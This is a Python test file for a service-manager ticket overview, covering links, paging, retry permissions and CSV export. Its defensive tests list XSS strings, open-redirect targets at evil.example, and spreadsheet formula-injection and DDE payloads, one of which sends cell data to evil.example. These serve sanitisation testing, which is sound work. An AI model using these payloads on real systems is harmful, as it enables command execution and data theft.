"""The overview for service managers: numbers that lead to their tickets, files for spreadsheets, trying again."""

import csv
import io
import re
from dataclasses import replace
from datetime import date, timedelta
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.tickets import TicketRef
from tests.support.memory_overview import AT, MemoryOverview
from tests.ui.pages import Browser, house, person
from ui import overview_words, sheets
from ui.access import Role
from ui.overview_views import (
    NOW,
    SORTS,
    Day,
    Gap,
    Item,
    Open,
    Overview,
    Pause,
    Query,
    Reading,
    Scope,
    Service,
    Show,
    Sort,
)
from ui.reports import Line
from ui.taming import tamed

REF = TicketRef("acme", "1")
ITEM = Item(REF, AT, "OPS-1", "Till 3 is down", "card-gateway", "P1", "high", "payments", "We look.", "17")
HELD = Item(TicketRef("acme", ""), AT, id="18", held=True)
FULL = Overview(
    Scope(), ("acme",), AT, AT, AT,
    open=(Open("high", "payments", 2), Open("", "", 1)),
    services=(Service("card-gateway", "card payments", 3, 2),),
    held=1, due=4, overdue=5,
    kept=Line("all", 90, 7, 3),
    days=(Day(date(2026, 11, 19), 40, 7, 0), Day(date(2026, 11, 20), 50, 0, 3)),
    gaps=(Gap("card-gateway", "card payments", 11), Gap("-", "Tickets of no service in the catalogue", 2)),
    reading=Reading(200, 180, 45, 7),
    feedback={Show.HELPED: 6, Show.NOT_HELPED: 8, Show.HURTS: 9},
    failures={Show.DEAD: 2, Show.REFUSED: 0, Show.STOPPED: 0, Show.IN_DOUBT: 0},
    failed=((Show.DEAD, ITEM), (Show.DEAD, HELD)),
    pauses=(Pause("acme", AT + timedelta(minutes=9)),),
)  # fmt: skip
LINK = re.compile(r'href="(/overview/tickets\?[^"]*)"[^>]*>([^<]*)<')


def pages(views=None, *roles, **more):
    return Browser(house(overview=views or MemoryOverview(FULL), **more), person(*roles) if roles else None)


def test_every_number_leads_to_its_list():
    views = MemoryOverview(FULL)
    browser = pages(views)
    found = {address.replace("&amp;", "&") for address, _ in LINK.findall(browser.get("/overview").text)}
    shown = set()
    for address in found:
        assert browser.get(address).status_code == 200
        shown.add(views.asked[-1].show)
    assert shown == set(Show) - {Show.REFUSED, Show.STOPPED, Show.IN_DOUBT}, "nothing of these failed"
    asked = {(q.show, q.level, q.impact, q.service, q.day) for q in views.asked}
    assert (Show.OPEN, "high", "payments", "", "") in asked
    assert (Show.OPEN, "none", "", "", "") in asked
    assert (Show.KEPT, "", "", "", "2026-11-19") in asked
    assert (Show.SAID, "", "", "-", "") in asked


def test_the_chart_is_drawn_without_style_and_stands_in_a_table_too():
    text = pages().get("/overview").text
    assert text.count('<svg class="chart"') == 1
    assert "style=" not in text
    assert "19 Nov: 40 kept" in text
    assert re.search(r"Thu 19 Nov</th>.*?>40</a>.*?>7</a>.*?>0</td>", text, re.DOTALL)


@pytest.mark.parametrize(
    ("role", "leads"),
    [(Role.EDITOR, "/rules/new?file=card-gateway.yaml"), (Role.VIEWER, "/rules"), (Role.AGENT, "/rules")],
)
def test_a_gap_leads_to_where_it_is_closed(role, leads):
    text = pages(MemoryOverview(FULL), role).get("/overview").text
    assert f'href="{leads}"' in text
    assert ("/rules/new" in text) is (role is Role.EDITOR)


def test_an_empty_overview_says_what_to_do_next():
    text = unescape(pages(MemoryOverview()).get("/overview").text)
    for words in (
        overview_words.EMPTY[Show.OPEN],
        "/hooks/<site>",
        "No promise has ended",
        "Nothing failed",
        "in the ticket's panel",
    ):
        assert words in text


def test_an_empty_list_says_so_and_leads_on():
    browser = pages(MemoryOverview())
    for show in Show:
        text = unescape(browser.get(f"/overview/tickets?show={show}&site=acme").text)
        assert overview_words.EMPTY[show] in text
        assert "back to the overview" in text
        assert "without filters" in text


@pytest.mark.parametrize(
    ("asked", "query"),
    [
        ("", Query()),
        ("?show=nonsense&days=31&site=elsewhere&sort=;drop&page=-3&level=huge", Query()),
        ("?service=gone", Query(service="gone")),
        ("?show=due&service=card-gateway", Query(Show.DUE, sort=SORTS[Show.DUE][0])),
        ("?show=kept&days=90&site=acme&day=2026-11-19&page=2", Query(Show.KEPT, Scope(90, "acme"), day="2026-11-19", sort=Sort.NEWEST, page=2)),
        ("?show=kept&day=2026-02-30", Query(Show.KEPT, sort=Sort.NEWEST)),
        ("?show=kept&day=1999-01-01", Query(Show.KEPT, sort=Sort.NEWEST)),
        ("?show=open&level=none&impact=%00%27", Query(level="none", impact="\0'")),
        ("?show=missed&level=high&impact=x&sort=ticket", Query(Show.MISSED, sort=Sort.NEWEST)),
        ("?page=99999999999999999999", Query(page=200)),
    ],
)  # fmt: skip
def test_an_address_asks_for_what_can_be_had(asked, query):
    views = MemoryOverview(items=(ITEM,) * 20_000)
    pages(views).get(f"/overview/tickets{asked}")
    assert views.asked[-1] == query


def test_tickets_of_a_service_that_left_the_catalogue_are_listed_alone():
    """Its number leads to its own tickets, and the form keeps it."""
    browser = pages(MemoryOverview(replace(FULL, services=(Service("gone", "gone", 3, 0),)), items=(ITEM,)))
    assert "/overview/tickets?show=open&amp;service=gone" in browser.get("/overview").text
    text = browser.get("/overview/tickets?show=open&service=gone").text
    assert '<option value="gone" selected>gone, no longer in the catalogue</option>' in text
    assert "1 ticket, gone." in text


def test_a_page_behind_the_last_leads_to_the_first():
    answer = pages(MemoryOverview(items=(ITEM,))).get("/overview/tickets?show=said&page=7&days=90")
    assert (answer.status_code, answer.headers["Location"]) == (303, "/overview/tickets?show=said&days=90")


def test_pages_follow_one_another():
    browser = pages(MemoryOverview(items=(ITEM,) * 120))
    assert 'rel="next" href="/overview/tickets?show=open&amp;page=2"' in browser.get("/overview/tickets").text
    last = browser.get("/overview/tickets?page=3").text
    assert 'rel="next"' not in last
    assert 'rel="prev"' in last


def test_each_list_can_be_sorted_as_it_says():
    views = MemoryOverview(items=(ITEM,))
    browser = pages(views)
    for show, sorts in SORTS.items():
        for sort in sorts:
            text = browser.get(f"/overview/tickets?show={show}&sort={sort}").text
            assert views.asked[-1].sort is sort
            assert f'<option value="{sort}" selected>' in text


def test_the_period_is_asked_only_where_it_matters():
    browser = pages(MemoryOverview(items=(ITEM,)))
    for show in Show:
        assert ('name="days"' in browser.get(f"/overview/tickets?show={show}").text) is (show not in NOW)


def test_a_held_ticket_shows_no_name_and_stands_in_no_file():
    browser = pages(
        MemoryOverview(FULL, items=(ITEM, replace(HELD, key="SECRET-1", title="Secret", words="Leak"))), Role.AGENT
    )
    text = browser.get("/overview/tickets?show=dead").text
    assert "A ticket that a confidential gate holds" in text
    assert not any(word in text for word in ("Secret", "SECRET-1", "Leak"))
    assert text.count('<button class="second">Retry') == 2
    assert len(read(browser.get("/overview/tickets.csv?show=dead"))) == 2


@pytest.mark.parametrize(("roles", "buttons"), [((Role.VIEWER,), 0), ((Role.PUBLISHER,), 0), ((Role.AGENT,), 2)])
def test_only_agents_are_offered_to_try_again(roles, buttons):
    text = pages(MemoryOverview(FULL), *roles).get("/overview").text
    assert text.count(">Retry<") == buttons


def test_trying_again():
    views = MemoryOverview(FULL)
    browser = pages(views, Role.AGENT)
    answer = browser.post("/overview/retry", {"show": "dead", "id": "17", "back": "/overview/tickets?show=dead"})
    assert (answer.status_code, answer.headers["Location"]) == (303, "/overview/tickets?show=dead")
    assert views.tried == [(Show.DEAD, "17", "Eva Example")]
    assert overview_words.TRIED_AGAIN[Show.DEAD] in browser.get("/overview").text
    views.refuses = "Not done: this note is written."
    browser.post("/overview/retry", {"show": "refused", "id": "n"})
    assert views.refuses in browser.get("/overview").text


@pytest.mark.parametrize("show", ["open", "in_doubt", "kept", "", "nonsense"])
def test_only_what_failed_is_tried_again(show):
    views = MemoryOverview(FULL)
    assert pages(views, Role.AGENT).post("/overview/retry", {"show": show, "id": "17"}).status_code == 404
    assert views.tried == []


@pytest.mark.parametrize("back", ["//evil.example/", "https://evil.example/", "javascript:alert(1)", "\\\\evil"])
def test_after_trying_again_nobody_is_led_elsewhere(back):
    answer = pages(MemoryOverview(FULL), Role.AGENT).post("/overview/retry", {"show": "dead", "id": "17", "back": back})
    assert answer.headers["Location"] == "/"


def test_a_store_that_is_down_is_said_in_words():
    answer = pages(MemoryOverview(broken=True)).get("/overview")
    assert (answer.status_code, "cannot read its store" in answer.text) == (503, True)


TRICKS = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{ 7*7 }}", "[code]<b>x</b>[/code]", "{html}x{html}",
    "=1+1", "\N{RIGHT-TO-LEFT OVERRIDE}evil", "a\0b", "x" * 500, "\N{COMBINING ACUTE ACCENT}" * 50,
)  # fmt: skip


@pytest.mark.parametrize("trick", TRICKS)
def test_tricks_in_fields_are_words_like_others(trick):
    item = replace(ITEM, key=trick, title=trick, service=trick, priority=trick, impact=trick, words=trick)
    seen = replace(
        FULL,
        open=(Open("high", trick, 1),),
        services=(Service(trick, trick, 1),),
        gaps=(Gap(trick, trick, 1),),
        failed=((Show.DEAD, item),),
    )
    browser = pages(MemoryOverview(seen, items=(item,)), Role.AGENT)
    for address in ("/overview", "/overview/tickets", "/overview/tickets?show=hard", "/overview/tickets?show=dead"):
        answer = browser.get(address)
        assert answer.status_code == 200
        assert not any(mark in answer.text for mark in ("<script>alert", "<img src=x", "<b>x</b>"))
        assert str(tamed(trick)).replace("\0", "\N{REPLACEMENT CHARACTER}") in unescape(answer.text).replace(
            "\0", "\N{REPLACEMENT CHARACTER}"
        )


# --- files for spreadsheets --------------------------------------------------------------------------------------------

DANGER = (
    "=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\N{NO-BREAK SPACE}=1", "\N{ZERO WIDTH SPACE}=1",
    "\N{FULLWIDTH EQUALS SIGN}1", "\N{FULLWIDTH PLUS SIGN}1", "\N{FULLWIDTH HYPHEN-MINUS}1", "\N{FULLWIDTH COMMERCIAL AT}x",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"Error")', '=IMPORTXML(CONCAT(""))', "@import",
    "+cmd|' /C powershell'!A0", "-2+3+cmd|' /C calc'!D2", "a;=1+1", 'a";=1+1', "a,=1+1", "a|@x", "x\n=1+1", 'x"\r\n"=1+1',
    "'=1", '"=1', ";;;=1", 'DDE ("cmd";"/C calc")', "%0A=1",
)  # fmt: skip
STARTS = tuple(
    "=+-@\t\r\n\N{FULLWIDTH EQUALS SIGN}\N{FULLWIDTH PLUS SIGN}\N{FULLWIDTH HYPHEN-MINUS}\N{FULLWIDTH COMMERCIAL AT}"
)


def read(answer):
    """As a spreadsheet reads it: by the mark, by RFC 4180."""
    assert answer.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline=""), strict=True))


def harmless(cell):
    return not cell.lstrip().startswith(STARTS) and "\n" not in cell and "\r" not in cell and "\t" not in cell


@pytest.mark.parametrize("danger", DANGER)
def test_no_cell_begins_a_formula(danger):
    item = replace(ITEM, key=danger, title=danger, service=danger, impact=danger, words=danger)
    header, row = read(pages(MemoryOverview(items=(item,))).get("/overview/tickets.csv"))
    assert tuple(header) == overview_words.COLUMNS
    assert len(row) == len(header)
    assert all(map(harmless, row))
    for separator in ";|\t":  # read by a spreadsheet that separates otherwise
        for cells in csv.reader(io.StringIO(sheets.sheet(["x"], [[danger]]).decode("utf-8-sig")), delimiter=separator):
            assert all(map(harmless, cells))


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_whatever_a_cell_holds_it_is_one_harmless_cell(cells):
    raw = sheets.sheet(["head"] * len(cells), [cells]).decode("utf-8-sig")
    _, row = csv.reader(io.StringIO(raw, newline=""), strict=True)
    assert len(row) == len(cells)
    assert all(map(harmless, row))


@given(st.text(alphabet="=+-@;,|\"' \ta", max_size=12))
def test_no_other_separator_lets_a_formula_begin(text):
    raw = sheets.sheet(["x"], [[text]]).decode("utf-8-sig")
    for separator in ";|\t":
        for cells in csv.reader(io.StringIO(raw, newline=""), delimiter=separator):
            assert all(map(harmless, cells)), cells


def test_plain_words_stay_as_they_are():
    for words in ("Kasse 3 – Zürich: 5-10 % später", "OPS-1", "“quoted”", "a + b", "eva@acme.example", "日本語"):
        assert sheets.safe(words) == words


def test_a_file_says_what_it_is():
    answer = pages(MemoryOverview(items=(ITEM,))).get("/overview/tickets.csv?show=hard&days=7")
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="liaison-hard.csv"'
    assert read(answer)[1][:5] == ["OPS-1", "acme", "Till 3 is down", "card payments", "P1"]


def test_every_list_has_its_words():
    for words in (
        overview_words.LISTS,
        overview_words.COUNTED,
        overview_words.TIMES,
        overview_words.WORDS,
        overview_words.EMPTY,
    ):
        assert set(words) == set(Show)
    assert set(overview_words.SORTS) == set(Sort)
    assert overview_words.number(Show.OPEN, 1) == "1 ticket"
    assert overview_words.number(Show.MISSED, 1204) == "1,204 promises"
